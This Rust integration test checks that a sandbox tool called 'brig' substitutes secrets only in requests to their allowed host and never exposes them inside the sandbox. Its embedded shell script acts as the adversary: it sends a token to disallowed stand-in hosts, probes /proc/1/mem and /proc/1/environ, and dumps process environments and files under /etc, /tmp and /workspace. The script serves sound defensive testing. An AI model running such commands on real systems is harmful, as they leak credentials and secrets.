//! Secrets (`brig run --secret NAME@HOST`): the sandbox holds a placeholder only;
//! brig's proxy puts the value into requests toward the secret's hosts (over TLS
//! it intercepts with a CA of the run), refuses the placeholder anywhere else, and
//! the value shows up nowhere inside the sandbox or in brig's output.
//!
//! All traffic stays on this machine: the upstreams listen on a loopback address
//! of their own (port 443 for HTTPS), with a certificate from a CA this test makes
//! and hands brig through `--egress-ca-file`.

mod common;

use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::Arc;

use common::brig;

/// Stands for the value in what the upstream echoes, so the value itself never
/// travels back into the sandbox (where the test looks for it).
const SEEN: &str = "[[THE-REAL-VALUE]]";

struct Upstreams {
    ip: String,
    http_port: u16,
    /// The test CA, PEM, for --egress-ca-file.
    ca_pem: String,
    /// The upstream's own certificate (what a client sees when brig does not intercept).
    leaf: Vec<u8>,
}

/// An HTTPS server on IP:443 and an HTTP one on IP:any, both answering with the
/// request head they got (the value replaced by [`SEEN`]).
fn start(value: &str) -> Upstreams {
    let ip = {
        let n = std::process::id() as u64
            ^ std::time::SystemTime::now()
                .duration_since(std::time::UNIX_EPOCH)
                .unwrap()
                .subsec_nanos() as u64;
        format!(
            "127.{}.{}.{}",
            20 + n % 200,
            (n >> 8) % 250 + 1,
            (n >> 16) % 250 + 1
        )
    };
    let ca_key = rcgen::KeyPair::generate().unwrap();
    let mut ca_params = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
    ca_params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    ca_params
        .distinguished_name
        .push(rcgen::DnType::CommonName, "brig test upstream CA");
    let ca_cert = ca_params.self_signed(&ca_key).unwrap();
    let issuer = rcgen::Issuer::new(ca_params, ca_key);
    let leaf_key = rcgen::KeyPair::generate().unwrap();
    let names = ["api.test", "other.test", "plain.test"].map(String::from);
    let leaf = rcgen::CertificateParams::new(names.to_vec())
        .unwrap()
        .signed_by(&leaf_key, &issuer)
        .unwrap();
    let key = rustls::pki_types::PrivateKeyDer::Pkcs8(leaf_key.serialize_der().into());
    let config = rustls::ServerConfig::builder_with_provider(Arc::new(
        rustls::crypto::ring::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .unwrap()
    .with_no_client_auth()
    .with_single_cert(vec![leaf.der().clone()], key)
    .unwrap();
    let config = Arc::new(config);

    let https = TcpListener::bind((ip.as_str(), 443)).unwrap();
    let value_tls = value.to_string();
    std::thread::spawn(move || {
        for stream in https.incoming() {
            let Ok(stream) = stream else { return };
            let (config, value) = (config.clone(), value_tls.clone());
            std::thread::spawn(move || {
                let conn = rustls::ServerConnection::new(config).unwrap();
                let mut tls = rustls::StreamOwned::new(conn, stream);
                echo(&mut tls, &value);
                tls.conn.send_close_notify();
                let _ = tls.flush();
            });
        }
    });
    let http = TcpListener::bind((ip.as_str(), 0)).unwrap();
    let http_port = http.local_addr().unwrap().port();
    let value = value.to_string();
    std::thread::spawn(move || {
        for stream in http.incoming() {
            let Ok(mut stream) = stream else { return };
            let value = value.clone();
            std::thread::spawn(move || echo(&mut stream, &value));
        }
    });
    Upstreams {
        ip,
        http_port,
        ca_pem: ca_cert.pem(),
        leaf: leaf.der().to_vec(),
    }
}

fn echo<S: Read + Write>(stream: &mut S, value: &str) {
    let mut head = Vec::new();
    let mut byte = [0u8; 1];
    while !head.ends_with(b"\r\n\r\n") {
        match stream.read(&mut byte) {
            Ok(1) => head.push(byte[0]),
            _ => return,
        }
    }
    // curl -u x:VALUE sends base64("x:VALUE"), which decodes to the value.
    let basic = base64_encode(format!("x:{value}").as_bytes());
    let text = String::from_utf8_lossy(&head)
        .replace(value, SEEN)
        .replace(&basic, BASIC_SEEN);
    let _ = write!(
        stream,
        "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{text}",
        text.len()
    );
    let _ = stream.flush();
}

/// Stands for `base64("x:" + value)` in what the upstream echoes.
const BASIC_SEEN: &str = "[[BASIC-WITH-THE-REAL-VALUE]]";

fn base64_encode(bytes: &[u8]) -> String {
    const ABC: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let n = chunk.iter().fold(0u32, |n, &b| n << 8 | u32::from(b)) << (8 * (3 - chunk.len()));
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(ABC[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

fn sha256_hex(bytes: &[u8]) -> String {
    use sha2::Digest;
    sha2::Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// What the sandbox does: requests with the placeholder toward each host, the
/// certificates it is shown, and a dump of everything it can read that might hold
/// the value (environments, command lines, /etc, /tmp, /workspace).
const SCRIPT: &str = r#"
set -u
C="curl -sS --max-time 60"
echo "PLACEHOLDER=$TOKEN"
echo "== https api"; $C https://api.test/h -H "Authorization: Bearer $TOKEN"
echo "== https api basic"; $C -u "x:$TOKEN" https://api.test/b
echo "== python api"; /usr/bin/python3 -c 'import os, urllib.request as u; r = u.Request("https://api.test/p", headers={"X-Key": os.environ["TOKEN"]}); print(u.urlopen(r, timeout=60).read().decode())'
echo "== https api socks"; $C --noproxy '' --proxy socks5h://127.0.0.1:1080 https://api.test/s -H "Authorization: Bearer $TOKEN"
echo "== https api capture"; if [ -n "${CAPTURE:-}" ]; then env -u HTTPS_PROXY -u https_proxy -u ALL_PROXY -u all_proxy $C https://api.test/c -H "Authorization: Bearer $TOKEN"; else echo "Authorization: Bearer [[THE-REAL-VALUE]] (no capture here)"; fi
echo "== https api other host header"; $C https://api.test/h -H "Host: other.test" -H "Authorization: Bearer $TOKEN"
echo "== https api query"; $C "https://api.test/q?key=$TOKEN&x=1"
echo "== https other"; $C https://other.test/h -H "X-Leak: $TOKEN"
echo "== http api"; $C "http://api.test:$HTTP_PORT/h" -H "Authorization: Bearer $TOKEN"
echo "== http plain"; $C "http://plain.test:$HTTP_PORT/h?k=$TOKEN"
echo "== http plain body"; $C "http://plain.test:$HTTP_PORT/h" --data "t=$TOKEN"
/usr/bin/python3 - <<'PY'
import hashlib, socket, ssl
def peer(host):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=60)
    s.sendall(("CONNECT %s:443 HTTP/1.1\r\nHost: %s:443\r\n\r\n" % (host, host)).encode())
    head = b""
    while b"\r\n\r\n" not in head:
        head += s.recv(1)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    t = ctx.wrap_socket(s, server_hostname=host)
    print("PEER %s %s" % (host, hashlib.sha256(t.getpeercert(True)).hexdigest()))
    t.close()
peer("plain.test")
peer("api.test")
PY
# brig's init is a copy of brig (whose environment held the value): closed to the sandbox.
head -c 1 /proc/1/mem >/dev/null 2>&1 && echo "init memory readable" | tr a-z A-Z
head -c 1 /proc/1/environ >/dev/null 2>&1 && echo "init environment readable" | tr a-z A-Z
echo "== dump"
for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do cat "$f" 2>/dev/null; echo; done
find /etc /tmp /workspace -type f -size -4M 2>/dev/null | while read -r f; do cat "$f" 2>/dev/null; done
echo "== end"
"#;

fn capture_available() -> bool {
    ["/usr/sbin/nft", "/sbin/nft", "/usr/bin/nft"]
        .iter()
        .any(|p| std::path::Path::new(p).exists())
}

fn section<'a>(out: &'a str, name: &str) -> &'a str {
    let start = out
        .find(&format!("== {name}\n"))
        .unwrap_or_else(|| panic!("no section {name}: {out}"));
    let rest = &out[start + name.len() + 4..];
    &rest[..rest.find("\n== ").unwrap_or(rest.len())]
}

#[test]
fn root_a_secret_reaches_its_host_only_and_the_sandbox_never_sees_it() {
    require_root!();
    let value = format!("v4lue-{}", sha256_hex(&std::process::id().to_be_bytes()));
    let up = start(&value);
    let dir = tempfile::tempdir().unwrap();
    let hosts = dir.path().join("hosts");
    std::fs::write(
        &hosts,
        format!("{ip} api.test other.test plain.test\n", ip = up.ip),
    )
    .unwrap();
    let ca = dir.path().join("upstream-ca.pem");
    std::fs::write(&ca, &up.ca_pem).unwrap();
    let out = brig()
        .env("TOKEN", &value)
        .env("OTHER", "another-value")
        .env("BRIG_LOG", "trace")
        .args(["run", "--timeout", "180s", "--network", "allow"])
        .args(["--allow-host", "api.test", "--allow-host", "other.test"])
        .args(["--allow-host", "plain.test"])
        .arg("--egress-hosts")
        .arg(&hosts)
        .args(["--egress-allow-private", "127.0.0.0/8"])
        .args(["--secret", "TOKEN@api.test", "--secret", "OTHER@other.test"])
        .arg("--egress-ca-file")
        .arg(&ca)
        .args(["--env", &format!("HTTP_PORT={}", up.http_port)])
        .args([
            "--env",
            &format!("CAPTURE={}", if capture_available() { "1" } else { "" }),
        ])
        .args(["--", "/bin/sh", "-c", SCRIPT])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(out.status.success(), "{stdout}\n{stderr}");
    assert!(stdout.contains("== end"), "{stdout}");

    // Substituted toward its host, in a header and in the URL, over intercepted TLS.
    let api = section(&stdout, "https api");
    assert!(
        api.contains(&format!("Authorization: Bearer {SEEN}")),
        "{api}\n{stderr}"
    );
    let basic = section(&stdout, "https api basic");
    assert!(
        basic.contains(&format!("Authorization: Basic {BASIC_SEEN}")),
        "{basic}"
    );
    // Through SOCKS and transparent capture too.
    for name in ["https api socks", "https api capture"] {
        let got = section(&stdout, name);
        assert!(
            got.contains(&format!("Authorization: Bearer {SEEN}")),
            "{name}: {got}"
        );
    }
    // An intercepted request must be for the host it was intercepted for: a server
    // that answers for many names must not get the value for another one.
    let fronted = section(&stdout, "https api other host header");
    assert!(
        fronted.contains("this connection is to api.test"),
        "{fronted}"
    );
    assert!(!fronted.contains(SEEN), "{fronted}");
    // Python's own TLS trusts brig's CA through SSL_CERT_FILE.
    let python = section(&stdout, "python api");
    assert!(python.contains(&format!("X-Key: {SEEN}")), "{python}");
    let query = section(&stdout, "https api query");
    assert!(query.contains(&format!("GET /q?key={SEEN}&x=1")), "{query}");
    // And over plain HTTP.
    let plain_api = section(&stdout, "http api");
    assert!(
        plain_api.contains(&format!("Authorization: Bearer {SEEN}")),
        "{plain_api}"
    );

    // Toward another host (intercepted for its own secret, or plain HTTP): refused,
    // with a message naming the secret and where it may go.
    for name in ["https other", "http plain", "http plain body"] {
        let refused = section(&stdout, name);
        assert!(
            refused.contains("TOKEN") && refused.contains("api.test"),
            "{name}: {refused}"
        );
        assert!(!refused.contains(SEEN), "{name}: {refused}");
    }
    assert!(stderr.contains("secret_exfiltration"), "{stderr}");
    assert!(
        stderr.lines().any(|l| l.contains("secret_exfiltration")
            && l.contains("TOKEN")
            && l.contains("other.test")),
        "{stderr}"
    );

    // A host without secrets is not intercepted: the client sees the upstream's own
    // certificate; a secret's host gets brig's.
    let upstream_cert = sha256_hex(&up.leaf);
    assert!(
        stdout.contains(&format!("PEER plain.test {upstream_cert}")),
        "{stdout}"
    );
    assert!(stdout.contains("PEER api.test "), "{stdout}");
    assert!(
        !stdout.contains(&format!("PEER api.test {upstream_cert}")),
        "{stdout}"
    );

    // The sandbox had the placeholder, never the value: not in any environment,
    // command line or file it can read, nor in brig's log lines (at trace level).
    assert!(
        stdout.contains("PLACEHOLDER=brig-secret-TOKEN-"),
        "{stdout}"
    );
    assert!(
        stdout.contains("brig egress CA"),
        "the bundle holds brig's CA"
    );
    assert!(
        !stdout.contains(&value),
        "the value leaked into the sandbox"
    );
    assert!(!stdout.contains("INIT MEMORY READABLE"), "{stdout}");
    assert!(!stdout.contains("INIT ENVIRONMENT READABLE"), "{stdout}");
    assert!(!stdout.contains("another-value"));
    assert!(
        !stderr.contains(&value),
        "the value is in brig's log: {stderr}"
    );
}

#[test]
fn root_bad_secret_flags_are_refused_in_one_line() {
    require_root!();
    let cases: &[(&[&str], &str)] = &[
        (
            &[
                "--network",
                "allow",
                "--secret",
                "BRIG_TEST_UNSET_VAR@api.test",
            ],
            "BRIG_TEST_UNSET_VAR",
        ),
        (&["--secret", "TOKEN@api.test"], "--network"),
        (
            &["--network", "allow", "--secret", "TOKEN@10.0.0.1"],
            "10.0.0.1",
        ),
        (&["--network", "allow", "--secret", "TOKEN"], "NAME@HOST"),
    ];
    for (flags, named) in cases {
        let out = brig()
            .env("TOKEN", "x")
            .env_remove("BRIG_TEST_UNSET_VAR")
            .arg("run")
            .args(*flags)
            .args(["--", "/bin/true"])
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(125), "{flags:?}: {stderr}");
        assert_eq!(stderr.lines().count(), 1, "{flags:?}: {stderr}");
        assert!(stderr.contains(named), "{flags:?}: {stderr}");
        assert!(!stderr.contains("=x"), "{stderr}");
    }
}

#[test]
fn root_an_upstream_brig_cannot_verify_never_gets_the_value() {
    require_root!();
    let value = format!("v4lue-{}", sha256_hex(b"unverified"));
    let up = start(&value);
    let dir = tempfile::tempdir().unwrap();
    let hosts = dir.path().join("hosts");
    std::fs::write(&hosts, format!("{} api.test\n", up.ip)).unwrap();
    // No --egress-ca-file: the upstream's test CA is not among the roots brig trusts.
    let out = brig()
        .env("TOKEN", &value)
        .args(["run", "--timeout", "120s", "--network", "allow"])
        .args(["--allow-host", "api.test", "--egress-hosts"])
        .arg(&hosts)
        .args(["--egress-allow-private", "127.0.0.0/8"])
        .args(["--secret", "TOKEN@api.test", "--", "/bin/sh", "-c"])
        .arg(r#"curl -sS --max-time 60 https://api.test/h -H "Authorization: Bearer $TOKEN""#)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stdout.contains("api.test is allowed, but its TLS could not be verified"),
        "{stdout}\n{stderr}"
    );
    assert!(!stdout.contains(SEEN), "{stdout}");
    assert!(!stderr.contains(&value), "{stderr}");
}
